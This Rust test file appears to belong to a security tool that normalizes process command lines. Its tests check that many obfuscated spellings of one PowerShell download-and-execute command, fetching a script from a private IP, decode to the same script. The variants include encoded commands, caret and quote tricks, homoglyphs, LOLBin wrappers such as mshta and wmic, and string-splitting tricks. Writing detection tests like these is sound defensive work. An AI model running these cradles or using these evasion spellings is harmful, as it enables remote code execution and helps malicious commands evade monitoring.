//! One malicious command in many spellings: each must come out as the same script and parameters.

use super::*;

const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')";

/// Returns the PowerShell of an action, whatever the wrappers that start it.
fn shell(command: &str, arguments: &str) -> (PowerShell, Process) {
    let list = processes(command, arguments);
    let process = list
        .into_iter()
        .find(|p| p.powershell.is_some())
        .unwrap_or_else(|| panic!("{command} | {arguments}"));
    (process.powershell.clone().unwrap(), process)
}

fn check(command: &str, arguments: &str, parameters: &[&str]) {
    let (shell, process) = shell(command, arguments);
    let line = format!("{command} | {arguments}");
    assert_eq!(shell.parameters, parameters, "{line}");
    assert_eq!(shell.script.as_deref(), Some(SCRIPT), "{line}");
    assert!(process.image_name.starts_with("powershell") || process.image_name.starts_with("pwsh"), "{line}");
}

const ENCODED: [&str; 3] = ["noprofile", "windowstyle hidden", "encodedcommand"];

/// Spellings of `powershell -NoProfile -WindowStyle Hidden -EncodedCommand BLOB` in two elements.
const PLAIN: &[(&str, &str)] = &[
    ("powershell.exe", "-NoProfile -WindowStyle Hidden -EncodedCommand BLOB"),
    ("powershell", "-nop -w hidden -enc BLOB"),
    ("PowerShell.EXE", "-NoP -W 1 -e BLOB"),
    ("POWERSHELL", "-nopro -win h -ec BLOB"),
    ("powershell.exe", "/nop /w hidden /enc BLOB"),
    ("powershell.exe", "--nop --w hidden --enc BLOB"),
    ("powershell.exe", "\u{2013}nop \u{2014}w hidden \u{2015}enc BLOB"),
    ("powershell.exe", "-nop -w:hidden -enc:BLOB"),
    ("powershell.exe", "\"-nop\" \"-w\" \"hidden\" \"-enc\" \"BLOB\""),
    ("powershell.exe", "-n\"op\" -\"w\" hid\"den\" -e\"nc\" BLOB"),
    ("powershell.exe", "  -nop \t -w   hidden\r\n-enc   BLOB  "),
    ("powershell.exe", "-nop\u{a0}-w\u{2800}hidden\u{3000}-enc BLOB"),
    ("powershell.exe", "-n\u{200b}op -w hid\u{200d}den -enc BLOB"),
    ("powershell.exe ", "-nop -w hidden -encodedc BLOB"),
    ("\"powershell.exe\"", "-nop -w hidden -enc BLOB"),
    ("p\"o\"wer\"\"shell", "-nop -w hidden -enc BLOB"),
    ("powershell -nop", "-w hidden -enc BLOB"),
    ("powershell -nop -w hidden -enc BLOB", ""),
    ("\"powershell.exe\" -nop -w hidden -enc BLOB", ""),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-nop -w hidden -enc BLOB"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell -nop -w hidden -enc BLOB", ""),
    (r"%windir%\System32\WindowsPowerShell\v1.0\powershell.exe", "-nop -w hidden -enc BLOB"),
    (r"%SystemRoot%\SysWOW64\WindowsPowerShell\v1.0\powershell", "-nop -w hidden -enc BLOB"),
    (
        r"%SYSTEMDRIVE%\Windows\..\Windows\System32\.\WindowsPowerShell\v1.0\powershell.exe",
        "-nop -w hidden -enc BLOB",
    ),
    ("C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe", "-nop -w hidden -enc BLOB"),
    (r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -enc BLOB"),
    (r"\\?\C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-nop -w hidden -enc BLOB"),
    (r"\\.\C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-nop -w hidden -enc BLOB"),
    (r"\??\C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-nop -w hidden -enc BLOB"),
    (r"C:\Windows\System32\WINDOW~1\v1.0\POWERS~1.EXE", "-nop -w hidden -enc BLOB"),
    ("POWERS~1.EXE", "-nop -w hidden -enc BLOB"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe.", "-nop -w hidden -enc BLOB"),
    ("powershell_ise", "-nop -w hidden -enc BLOB"),
    ("pwsh", "-nop -w hidden -enc BLOB"),
    (r"C:\Program Files\PowerShell\7\pwsh.exe", "-nop -w hidden -enc BLOB"),
    (r"C:\Program Files\PowerShell\7\pwsh -nop -w hidden -enc BLOB", ""),
    (r"%ProgramFiles:~0,3%PROGRA~1\PowerShell\7\pwsh.exe", "-nop -w hidden -enc BLOB"),
    ("ｐｏｗｅｒｓｈｅｌｌ", "-nop -w hidden -enc BLOB"),
    ("pоwershеll.exe", "-nop -w hidden -enc BLOB"),
    // Wrappers.
    ("cmd.exe", "/c powershell -nop -w hidden -enc BLOB"),
    ("cmd", "/C\"powershell -nop -w hidden -enc BLOB\""),
    ("%ComSpec%", "/q /d /c powershell -nop -w hidden -enc BLOB"),
    ("%COMSPEC:~-7%", "/k p^o^w^e^r^s^h^e^l^l -n^op -w hid^den -e^nc BLOB"),
    ("%comspec:system32=.\\system32%", "/r powershell -nop -w hidden -enc BLOB"),
    ("cmd.exe /c powershell -nop -w hidden -enc BLOB", ""),
    ("cmd", "/c \"p\"ow\"er\"shell -nop -w hidden -enc BLOB"),
    ("cmd", "/c ,;=@(powershell -nop -w hidden -enc BLOB)"),
    ("cmd", "/c cd C:\\ && echo x > y.txt & powershell -nop -w hidden -enc BLOB > nul 2>&1"),
    ("cmd", "/c start /min \"\" powershell -nop -w hidden -enc BLOB"),
    ("cmd", "/c start \"t\" /b /wait powershell -nop -w hidden -enc BLOB"),
    ("cmd", "/c call powershell -nop -w hidden -enc BLOB"),
    ("cmd", "/c if exist C:\\Windows powershell -nop -w hidden -enc BLOB"),
    ("cmd", "/c for /l %i in (1,1,1) do powershell -nop -w hidden -enc BLOB"),
    ("cmd", "/c cmd /c \"cmd /c powershell -nop -w hidden -enc BLOB\""),
    ("cmd", "/v:on /c \"set x=power&&set y=shell&&!x!!y! -nop -w hidden -enc BLOB\""),
    ("cmd", "/c \"set p=pZwershell&& call %p:Z=o% -nop -w hidden -enc BLOB\""),
    (r"C:\Windows\System32\..\System32\cmd", "/Q /c powershell -nop -w hidden -enc BLOB"),
    ("conhost.exe", "--headless powershell -nop -w hidden -enc BLOB"),
    ("conhost", "conhost --headless powershell -nop -w hidden -enc BLOB"),
    ("forfiles", "/p c:\\windows /m notepad.exe /c \"powershell -nop -w hidden -enc BLOB\""),
    ("forfiles.exe", "/m x /c \"cmd /c 0x70owershell -nop -w hidden -enc BLOB\""),
    ("pcalua", "-a powershell -c -nop -w hidden -enc BLOB"),
    ("wmic", "process call create \"powershell -nop -w hidden -enc BLOB\""),
    (
        "mshta",
        "vbscript:CreateObject(\"Wscript.Shell\").Run(\"powershell -nop -w hidden -enc BLOB\",0)(window.close)",
    ),
    (
        "mshta.exe",
        "\"javascript:a=new ActiveXObject('WScript.Shell');a.Run('powershell -nop -w hidden -enc BLOB',0);close()\"",
    ),
    ("scriptrunner.exe", "-appvscript powershell -nop -w hidden -enc BLOB"),
    ("rundll32", "shell32.dll,ShellExec_RunDLL powershell -nop -w hidden -enc BLOB"),
    ("wt", "-w 0 nt powershell -nop -w hidden -enc BLOB"),
    ("runas", "/user:x \"powershell -nop -w hidden -enc BLOB\""),
];

#[test]
fn every_spelling_of_an_encoded_command_is_the_same() {
    assert!(PLAIN.len() >= 60);
    for &(command, arguments) in PLAIN {
        let blob = encoded(SCRIPT);
        check(&command.replace("BLOB", &blob), &arguments.replace("BLOB", &blob), &ENCODED);
    }
}

#[test]
fn every_spelling_of_the_base64_is_the_same() {
    let blob = encoded(SCRIPT);
    let (half, rest) = blob.split_at(41);
    let utf_8 = decode::base64::encode(SCRIPT.as_bytes());
    for value in [
        blob.trim_end_matches('=').to_owned(),
        format!("\"{blob}\""),
        format!("'{blob}'"),
        format!("\"{half}\r\n{rest}\""),
        format!("{half} {rest}"),
        format!("\"{half}   {rest}\""),
        blob.replace('+', "-").replace('/', "_"),
        decode::base64::encode(&[&b"\xff\xfe"[..], &decode::text::to_utf_16le(SCRIPT)].concat()),
        format!("{blob}{}", "="),
        utf_8,
    ] {
        check("powershell", &format!("-nop -w hidden -enc {value}"), &ENCODED);
    }
}

#[test]
fn every_spelling_of_a_plain_command_is_the_same() {
    for (command, arguments) in [
        ("powershell", format!("-c \"{SCRIPT}\"")),
        ("powershell", format!("-Command {SCRIPT}")),
        ("powershell", format!("/command \"{SCRIPT}\"")),
        ("powershell", format!("-c:\"{SCRIPT}\"")),
        ("powershell", SCRIPT.replace("(New-Object ", "(New-Object\t").replace("IEX", "-com IEX")),
        ("cmd", format!("/c \"powershell -c \"{SCRIPT}\"\"")),
        ("cmd", format!("/c powershell -c ^\"{SCRIPT}^\"")),
    ] {
        check(command, &arguments, &["command"]);
    }
    check("powershell", SCRIPT, &[]);
    check("cmd", &format!("/c echo {SCRIPT} | powershell -"), &[]);
}

#[test]
fn string_tricks_in_the_script_end_in_the_same_folded_layer() {
    for script in [
        "&('I'+'EX') (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://10.0.0.1/a.ps1')",
        "I`E`X (New-Obj`ect Net.WebCl`ient).Downlo`adString('http://10.0.0.1/a.ps1')",
        "&(\"{1}{0}\" -f 'X','IE') (New-Object Net.WebClient).DownloadString(('http:'+'//10.0.0.1/a.ps1'))",
        "&([char]73+[char]69+[char]88) (New-Object Net.WebClient).DownloadString('hXXp://10.0.0.1/a.ps1'.Replace('XX','tt'))",
        "&(-join ('XEI'[-1..-3])) (New-Object Net.WebClient).DownloadString([string]::Join('','http://','10.0.0.1/a.ps1'))",
    ] {
        for arguments in
            [format!("-c \"{}\"", script.replace('"', "\\\"")), format!("-enc {}", encoded(script))]
        {
            let process = shell("powershell", &arguments).1;
            let folded = process
                .decoded
                .iter()
                .find(|layer| layer.how == "folded")
                .unwrap_or_else(|| panic!("{script}"));
            let plain = folded
                .text
                .replace(".DownloadString.Invoke(", ".DownloadString(")
                .replace("(('http", "('http");
            assert_eq!(plain.replace("'))", "')"), SCRIPT, "{script}");
        }
    }
}
